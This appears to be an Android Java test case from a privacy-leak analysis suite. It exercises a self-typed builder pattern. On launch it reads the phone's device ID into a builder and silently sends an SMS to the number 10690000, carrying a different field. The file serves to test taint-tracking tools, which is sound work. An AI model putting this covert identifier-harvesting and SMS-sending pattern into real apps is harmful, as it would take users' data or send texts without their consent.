package cn.privlens.suite.self_typed_builder_other;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Letter letter = new LetterBuilder().title("t").id(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()).build();
        SmsManager.getDefault().sendTextMessage("10690000", null, letter.title, null, null);
    }
    static class Letter { String title; String id; }
    abstract static class Builder<B extends Builder<B>> {
        final Letter letter = new Letter();
        abstract B self();
        B title(String t) { letter.title = t; return self(); }
        Letter build() { return letter; }
    }
    static class LetterBuilder extends Builder<LetterBuilder> {
        @Override
        LetterBuilder self() { return this; }
        LetterBuilder id(String id) { letter.id = id; return this; }
    }
}
